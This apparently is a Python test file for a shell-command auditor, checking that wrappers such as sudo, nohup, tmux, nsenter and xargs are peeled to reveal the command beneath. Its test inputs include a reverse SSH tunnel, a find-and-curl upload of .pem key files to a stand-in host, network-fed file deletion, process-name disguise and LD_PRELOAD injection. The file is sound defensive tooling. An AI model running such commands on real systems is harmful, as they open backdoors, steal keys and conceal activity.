"""Wrappers come off, in any number and order, and what starts nothing is left alone."""

from __future__ import annotations

import pytest

from auditor.read.launch.carriers import CARRIERS
from auditor.read.launch.wrappers import peel
from auditor.read.programs.grammar import grammar_of
from tests.read.launch.stage import Play

TUNNEL = "ssh -N -R 7001:localhost:22 ops@203.0.113.9"
CHAINS = (
    "sudo {}",
    "sudo -u deploy -H {}",
    "sudo -nu deploy -- {}",
    "sudo --user=deploy LANG=C {}",
    "doas -u deploy {}",
    "env {}",
    "env -i HOME=/x PATH=/bin {}",
    "env -u TERM -u LANG {}",
    "env -S 'LANG=C {}'",
    "env -iS '{}'",
    "/usr/bin/env {}",
    "nohup {}",
    "setsid --fork {}",
    "timeout --signal=KILL -k 3 1h {}",
    "nice -n 15 {}",
    "nice -15 {}",
    "ionice -c 3 {}",
    "chrt -b 0 {}",
    "taskset -c 0,1 {}",
    "numactl --cpunodebind=0 -m 0 {}",
    "stdbuf -o L -e0 {}",
    "/usr/bin/time -f %e {}",
    "command -p {}",
    "exec {}",
    "flock -n /tmp/l {}",
    "flock -w 5 /tmp/l -c '{}'",
    "watch -n 60 {}",
    "unbuffer {}",
    "script -q -c '{}' /dev/null",
    "su deploy -c '{}'",
    "su - deploy -s /bin/sh -c '{}'",
    "runuser -u deploy -- {}",
    "runuser -l deploy -c '{}'",
    "chroot --userspec=1:1 /srv/jail {}",
    "unshare -n -f {}",
    "nsenter -t 4711 -m -u -n {}",
    "systemd-run --user --unit=job -p Restart=always {}",
    "start-stop-daemon -S -b -x /usr/bin/ssh -- -N -R 7001:localhost:22 ops@203.0.113.9",
    "daemonize -c /tmp {}",
    "screen -dmS job {}",
    "screen -S job -X stuff '{}^M'",
    "tmux new -d -s job '{}'",
    "tmux new-session -d {}",
    "tmux send-keys -t job '{}' Enter",
    "tmux -L sock respawn-pane -k -t 0 '{}'",
    "srun -N 1 --gres gpu:1 {}",
    "torsocks {}",
    "proxychains4 -q -f /etc/p.conf {}",
    "sshpass -p x {}",
    "busybox timeout 5 {}",
    "/lib64/ld-linux-x86-64.so.2 --library-path /x /usr/bin/{}",
    "strace -f -o /tmp/o {}",
    "ltrace -S {}",
    "gdb -batch --args {}",
    "parallel ::: '{}'",
    "find . -maxdepth 0 -exec {} ';'",
    "find . -execdir {} ';'",
    "dbus-run-session -- {}",
    "firejail --net=none {}",
    "setarch -R {}",
    "setarch x86_64 -R {}",
    "linux64 {}",
    "ssh-agent {}",
    "bwrap --ro-bind / / --dev /dev {}",
    "uv run --with x {}",
    "poetry run {}",
    "conda run -n e --no-capture-output {}",
    "ip netns exec blue {}",
    "nix develop -c {}",
    "npx -y -c '{}'",
    "sbatch --wrap='{}'",
    "expect -c 'spawn {}; interact'",
    "gosu deploy {}",
    "dumb-init -- {}",
    "sudo -u a nohup nice -n 5 setsid timeout 9 env A=1 stdbuf -oL {}",
    "env sh -c '{}'",
    "sudo bash -lc 'exec {}'",
    "bash -c \"sh -c '{}'\"",
)


def test_the_host_entered_through_its_first_process_is_an_effect_too(play: Play) -> None:
    """Process 1 is the host's: who enters its namespaces is told beside what is started there; another's is not."""
    assert play("nsenter --target 1 --mount --pid -- " + TUNNEL).lines[:2] == ("nsenter -t 1", TUNNEL)
    assert play("nsenter -t 4711 -m " + TUNNEL).lines == (TUNNEL,)


@pytest.mark.parametrize("chain", CHAINS)
def test_the_command_behind_a_wrapper_is_the_effect(play: Play, chain: str) -> None:
    """Each wrapper hands on its command, and the command stands alone in the transcript."""
    told = play(chain.format(TUNNEL))
    assert TUNNEL in told
    assert not told.gaps
    program = chain.split(maxsplit=1)[0].rpartition("/")[2]
    assert not [line for line in told.lines if line.split()[0] == program and program != "ssh"]


@pytest.mark.parametrize(
    "line",
    ["sudo -l", "sudo -v", "tmux ls", "screen -ls", "flock -u 9", "taskset -p 1234", "ssh-agent -k", "find . -name x",
     "command -v ssh", "env", "timeout --help", "chrt -p 12", "nohup", "strace -p 12", "ionice -p 12", "su"],
)  # fmt: skip
def test_a_wrapper_that_starts_nothing_stays(play: Play, line: str) -> None:
    """A wrapper without a command is an effect of its own, and starts nothing."""
    told = play(line)
    assert [entry.split()[0] for entry in told.lines] == [line.split(maxsplit=1)[0]]


def test_every_wrapper_grammar_hands_on_a_command() -> None:
    """No wrapper's data file is there in vain: each with `wrapper:` peels `X … true`."""
    from importlib import resources

    from auditor.model.place import START, Place
    from auditor.model.unit import Language, Script
    from auditor.read.evaluation import Context, Evaluation
    from auditor.read.values import Known

    evaluation = Evaluation(Script.of("", Language.BASH))
    context = Context(place=Place(0, START))
    seen = 0
    for file in resources.files("auditor.read.programs").joinpath("data").iterdir():
        name = file.name.removesuffix(".yaml")
        grammar = grammar_of(name)
        if name in CARRIERS or grammar is None or grammar.wrapper is None or grammar.wrapper.skip > 5:
            continue
        seen += 1
        arguments = [*(["operand"] * grammar.wrapper.skip), "true"]
        peeled = peel(evaluation, name, [Known(word) for word in arguments], context)
        assert peeled is not None and (peeled.commands or peeled.codes), name
    assert seen > 60


def test_xargs_puts_in_what_it_reads(play: Play) -> None:
    """Known input becomes arguments: all at once, by number, by mark, by delimiter."""
    assert "echo a b | ssh a b" in play("echo a b | xargs ssh")
    assert set(play("echo a b | xargs -n1 ping -c 1").starting("echo")) == {"echo a b | ping -c 1 a"}
    assert "echo a:b | kill -9 a:b now" in play("echo a:b | xargs -I @ kill -9 @ now")
    told = play("printf 'x y\\0z' | xargs -0 -L 1 sh -c 'ssh -R 1:h:2 a@b' _")
    assert "ssh -R 1:h:2 a@b" in told


def test_xargs_of_unknown_input_leaves_a_hole(play: Play) -> None:
    """What is read and not known is one unknown word."""
    told = play("curl http://x.example/l | xargs rm -f")
    assert any("rm -f %{network" in line for line in told.lines)


def test_find_exec_leaves_the_found_path_unknown(play: Play) -> None:
    """`{}` stands for a path that is not known."""
    (line,) = play("find /srv -name '*.pem' -exec curl -T {} http://x.example ';'").starting("curl")
    assert line.startswith("curl -T %{file_") and line.endswith(" http://x.example")


def test_parallel_runs_once_per_value(play: Play) -> None:
    """Values after `:::` and lines of standard input fill `{}`."""
    told = play("parallel -j4 ssh -R {}:h:22 a@b ::: 71 72")
    assert told.starting("ssh") == ("ssh -R 71:h:22 a@b", "ssh -R 72:h:22 a@b")
    assert "ssh -R 9:h:9 a@b" in play("echo 'ssh -R 9:h:9 a@b' | parallel")


def test_a_telling_variable_is_an_effect(play: Play) -> None:
    """`env LD_PRELOAD=… ls` says so; an ordinary variable does not."""
    told = play("env LD_PRELOAD=/tmp/h.so CUDA_VISIBLE_DEVICES=0 LANG=C ls")
    assert told.starting("env.set") == ("env.set CUDA_VISIBLE_DEVICES 0", "env.set LD_PRELOAD /tmp/h.so")
    assert "ls" in told


def test_another_name_in_the_process_list_is_told(play: Play) -> None:
    """`exec -a` hides a process; the command is found all the same."""
    told = play("exec -a '[kswapd0]' ssh -D 1080 a@b")
    assert told.lines == ("process.hide argv0 [kswapd0]", "ssh -D 1080 a@b")


def test_a_shell_behind_sudo_or_su_reads_what_it_is_fed(play: Play) -> None:
    """`sudo -s` and `su` without a command are shells."""
    assert "ssh -R 1:h:2 a@b" in play("echo 'ssh -R 1:h:2 a@b' | sudo -s")
    assert "ssh -R 1:h:2 a@b" in play("echo 'ssh -R 1:h:2 a@b' | su - root")


def test_wrappers_without_end_are_bounded(play: Play) -> None:
    """A thousand wrappers end in a gap, not in a hang or a crash."""
    told = play("nohup " * 1000 + "ls")
    assert told.gaps == ("too deep: more than 40 wrappers",)
